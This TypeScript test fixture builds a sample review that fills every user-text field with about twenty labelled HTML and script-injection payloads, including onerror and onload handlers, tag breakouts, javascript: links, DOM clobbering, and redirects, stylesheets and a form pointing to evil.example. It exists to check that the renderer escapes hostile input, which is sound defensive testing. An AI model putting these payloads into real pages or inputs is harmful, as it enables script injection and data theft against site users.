import { createDiagnostic } from '../../../src/model/diagnostics/diagnostic.js'
import type { Cause, Location, Review, ReviewedCall } from '../../../src/model/review.js'
import { hostileTexts } from '../hostile-texts.js'
import { recordOf } from '../review/review-samples.js'
import { sampleCause, samplePayload, totalsOf } from '../review/reviews.js'

/** Names what runs, so that a test sees it. */
const running: readonly (readonly [string, string])[] = [
  ['an image that runs', '<img src=x onerror="window.ran = 1">'],
  ['an end of the data', '</script><script>window.ran = 1</script>'],
  ['an end of the data in capitals', '</SCRIPT ><script>window.ran = 1</script>'],
  ['a comment in a script', '<!--<script>window.ran = 1</script>'],
  ['an end of the style', '</style><script>window.ran = 1</script>'],
  ['an end of the picture', '</text></svg><script>window.ran = 1</script>'],
  [
    'an SVG that runs',
    '<svg onload="window.ran = 1"><animate onbegin="window.ran = 1" attributeName=x dur=1s>',
  ],
  ['a frame', '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>'],
  ['an attribute', '" autofocus onfocus="window.ran = 1" x="'],
  ['an attribute in other quotes', "' autofocus onfocus='window.ran = 1' x='"],
  ['an attribute without quotes', ' onmouseover=window.ran=1 '],
  ['a link that runs a script', 'javascript:window.ran=1'],
  ['a page that moves on', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['another base', '<base href="https://evil.example/">'],
  ['a style from elsewhere', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  [
    'an import of CSS',
    '} @import url(https://evil.example/x.css); * { background: url(https://evil.example/y)',
  ],
  ['a form', '<form action="https://evil.example/"><input name="hidden"><button>send</button></form>'],
  ['a name that hides another', '<img name="getElementById"><a id="_data">[]</a>'],
  ['an open title', '</title><script>window.ran = 1</script>'],
  ['no script', '</noscript><script>window.ran = 1</script>'],
]

export const allHostileTexts: ReadonlyMap<string, string> = new Map([...running, ...hostileTexts])

/** Each text in every place that a text of a user can come to; one call for each. */
export function hostileReview(): Review {
  const calls = [...allHostileTexts.values()].map(hostileCall)
  const rings = calls.map(({ address, after }) => ({
    address,
    action: 'redial' as const,
    reason: address,
    kind: 'group' as const,
    template: address,
    people: after!.touches.people.map((callee) => ({ ...callee, isNew: true })),
    numbers: [{ id: address, isNew: false }],
    isNew: true,
  }))
  const texts = [...allHostileTexts.values()]
  return {
    base: { name: texts[0]!, commit: texts[1]!, calls: 1, errors: 1 },
    head: { name: texts[4]!, calls: 1, errors: 1 },
    isMasked: true,
    calls,
    unchanged: 0,
    causes: texts.map((text) => ({ pointer: text, cause: hostileCause(text), addresses: [text, text] })),
    rings,
    record: texts.flatMap((text) => recordOf(text)),
    planProblem: texts.join(' '),
    blocks: texts.map((text) => ({ action: 'blocked', reason: text, addresses: [text] })),
    totals: totalsOf(calls, rings),
    newPermissions: texts,
    guards: texts.map((text) => ({
      name: text,
      address: text,
      before: text,
      after: { [text]: text },
      isLooser: true,
    })),
    diagnostics: texts.map((text) => ({
      diagnostic: createDiagnostic('variable/undefined', text, { address: text, hint: text }),
      place: placeOf(text),
    })),
    oldDiagnostics: 0,
  }
}

function hostileCall(text: string): ReviewedCall {
  const place = placeOf(text)
  const sample = { address: text, template: text, subject: text, description: text, place }
  const after = samplePayload({ ...sample, people: [{ id: `${text} id`, name: text }] })
  return {
    address: text,
    kind: 'changed',
    movedFrom: text,
    before: samplePayload({ ...sample, subject: `${text} before` }),
    after: { ...after, call: { ...after.call, [`key ${text}`]: text } },
    changes: [
      { pointer: text, kind: 'changed', before: text, after: text, cause: hostileCause(text) },
      {
        pointer: '/subject',
        kind: 'changed',
        before: `${text} before`,
        after: text,
        cause: hostileCause(text),
      },
    ],
    action: 'redial',
    reason: text,
  }
}

const placeOf = (text: string): Location => ({ file: text, line: 1, column: 1 })

const hostileCause = (text: string): Cause => ({
  ...sampleCause(1, text, text),
  variables: [{ name: text, level: 'file', place: placeOf(text) }],
})
